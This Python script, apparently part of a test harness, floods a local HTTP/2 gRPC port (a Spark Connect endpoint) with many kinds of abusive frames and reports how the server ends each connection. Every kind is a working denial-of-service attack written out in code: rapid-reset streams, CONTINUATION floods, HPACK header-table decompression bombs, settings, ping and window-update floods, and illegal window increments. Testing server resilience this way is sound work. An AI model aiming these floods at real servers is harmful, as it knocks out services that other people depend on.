"""An attacker: floods a port with one kind of frames, as fast as it can, and connects again
whenever it is cut. `python attacker.py PORT KIND` says "ready", attacks from one line of its input
to the next, and prints a JSON object of what it saw.

What is sent on a connection is built before the time runs: an opening and, again and again, the same
flood. Streams are numbered anew on each connection, so a flood with streams in it is sent once.
"""

import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PATH = "/spark.connect.SparkConnectService/ExecutePlan"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
STREAMS = 10_000  # on one connection; it is cut long before
CHUNK = 1 << 17


def settings(**values):
    codes = {"initial_window": 4, "header_table": 1}
    return SettingsFrame(0, settings={codes[k]: v for k, v in values.items()}).serialize()


OPENING = PREFACE + settings()


def headers(stream, block, *flags):
    frame = HeadersFrame(stream, data=block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def per_stream(after, *, request=REQUEST):
    """A request on each of many streams, each followed by `after(stream)`."""
    encoder = hpack.Encoder()
    return b"".join(
        headers(stream, encoder.encode(request), "END_HEADERS") + after(stream)
        for stream in range(1, 2 * STREAMS, 2)
    )


def repeated(frame):
    return frame * (CHUNK // len(frame) + 1)


def one_call(flags=("END_HEADERS",)):
    return headers(1, hpack.Encoder().encode(REQUEST), *flags)


BOMB = ("x", "v" * 3900)  # fits into the dynamic table, where a byte refers to it


def bomb(streams):
    """Header blocks of a few KB, each of which unpacks to 4000 times the field."""
    encoder = hpack.Encoder()
    kept_out = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in REQUEST]
    first = encoder.encode([*kept_out, BOMB])
    again = encoder.encode(kept_out)
    reference = encoder.encode([BOMB])
    assert len(reference) == 1
    frames = [headers(1, first + reference * 4000, "END_HEADERS")]
    for stream in range(3, 2 * streams, 2):
        frames.append(headers(stream, again + reference * 4000, "END_HEADERS"))
    return b"".join(frames)


def tiny_windows():
    """An answer of the bridge's own that may leave byte by byte."""
    get = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "localhost")]
    grow = b"".join(
        WindowUpdateFrame(stream, window_increment=1).serialize() for stream in range(1, 201, 2)
    )
    encoder = hpack.Encoder()
    calls = b"".join(
        headers(stream, encoder.encode(get), "END_HEADERS", "END_STREAM")
        for stream in range(1, 201, 2)
    )
    return calls, repeated(grow)


def no_increment(stream):
    """A stream error (RFC 9113, 6.9), which hyperframe would not make."""
    return WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)


def overflow(stream):
    """A window of more than 2^31-1 (RFC 9113, 6.9.1)."""
    return WindowUpdateFrame(stream, window_increment=(1 << 31) - 1).serialize()


def too_much_data(stream):
    """More than the request's content-length says (RFC 9113, 8.1.1)."""
    return DataFrame(stream, b"ab").serialize()


def reset(stream):
    return RstStreamFrame(stream, error_code=8).serialize()


def nothing(_stream):
    return b""


def kinds():
    """By name: (opening, flood, whether the flood may be repeated)."""
    unfinished = one_call(flags=())
    windows_calls, windows_flood = tiny_windows()
    length = [*REQUEST, ("content-length", "1")]
    uppercase = [*REQUEST, ("Not-HTTP2", "1")]
    return {
        "rapid_reset": (OPENING, per_stream(reset), False),
        "no_increment": (OPENING, per_stream(no_increment), False),
        "overflow": (OPENING, per_stream(overflow), False),
        "content_length": (OPENING, per_stream(too_much_data, request=length), False),
        "malformed_headers": (OPENING, per_stream(nothing, request=uppercase), False),
        "too_many_streams": (OPENING, per_stream(nothing), False),
        "data_after_end": (
            OPENING + one_call(flags=("END_HEADERS", "END_STREAM")),
            repeated(DataFrame(1, b"x").serialize()),
            True,
        ),
        "continuation": (
            OPENING + unfinished,
            repeated(ContinuationFrame(1).serialize()),
            True,
        ),
        "continuation_of_fields": (
            OPENING + unfinished,
            repeated(ContinuationFrame(1, data=b"\0\1x\1y" * 2000).serialize()),
            True,
        ),
        "settings": (OPENING, repeated(settings(header_table=4096)), True),
        "ping": (OPENING, repeated(PingFrame(0, b"12345678").serialize()), True),
        "empty_data": (OPENING + one_call(), repeated(DataFrame(1).serialize()), True),
        "padding": (
            OPENING + one_call(),
            repeated(DataFrame(1, flags=["PADDED"], pad_length=1).serialize()),
            True,
        ),
        "bomb": (OPENING, bomb(streams=1), False),
        "bombs": (OPENING, bomb(streams=500), False),
        "priority": (
            OPENING,
            repeated(PriorityFrame(3, depends_on=1, stream_weight=9).serialize()),
            True,
        ),
        "window_update": (
            OPENING,
            repeated(WindowUpdateFrame(0, window_increment=1).serialize()),
            True,
        ),
        "tiny_windows": (
            PREFACE + settings(initial_window=0) + windows_calls,
            windows_flood,
            True,
        ),
    }


class Result:
    def __init__(self):
        self.connections = 0
        self.ends = {}  # how often by how: GOAWAY's error code, "closed" where none came
        self.bytes = 0
        self.longest_s = 0.0  # from the first byte to the end of the connection


def goaway_code(tail):
    """The error code of the last GOAWAY frame in the bytes; None where there is none."""
    at = tail.rfind(b"\x07\x00\x00\x00\x00\x00")
    return int.from_bytes(tail[at + 10 : at + 14], "big") if at >= 3 else None


class Attack:
    """One connection, which is driven by `step()` until it is `over`."""

    def __init__(self, port, opening, flood, again):
        self.began = time.monotonic()
        self._flood, self._again = flood, again
        self._left = memoryview(opening + flood)
        self._tail = b""
        self.sent = 0
        self.over = False
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.setblocking(False)

    def step(self):
        wanted = [self.socket]
        readable, writable, _ = select.select(wanted, wanted if self._left else [], [], 0.1)
        if readable:
            self._read()
        elif writable:
            self._write()

    def _read(self):
        try:
            data = self.socket.recv(1 << 18)
        except ConnectionResetError:
            data = b""
        self.over = not data
        self._tail = (self._tail + data)[-4096:]

    def _write(self):
        try:
            sent = self.socket.send(self._left[:CHUNK])
        except BlockingIOError:
            return
        except (ConnectionResetError, BrokenPipeError):
            self._left = b""  # what has come can still be read
            return
        self.sent += sent
        self._left = self._left[sent:]
        if not self._left and self._again:
            self._left = memoryview(self._flood)

    def note(self, result):
        """Adds to the result what became of it."""
        code = goaway_code(self._tail)
        how = "closed" if code is None else str(code)
        result.ends[how] = result.ends.get(how, 0) + 1
        result.longest_s = max(result.longest_s, time.monotonic() - self.began)


def attack(port, parts, told_to_stop):
    result = Result()
    while not told_to_stop():
        one = Attack(port, *parts)
        result.connections += 1
        while not one.over and not told_to_stop():
            one.step()
        result.bytes += one.sent
        if one.over:
            one.note(result)
        one.socket.close()
    return result


def main():
    port, kind = int(sys.argv[1]), sys.argv[2]
    parts = kinds()[kind]
    print("ready", flush=True)
    sys.stdin.readline()

    def told_to_stop():
        return bool(select.select([sys.stdin], [], [], 0)[0])

    print(json.dumps(vars(attack(port, parts, told_to_stop))), flush=True)


if __name__ == "__main__":
    main()
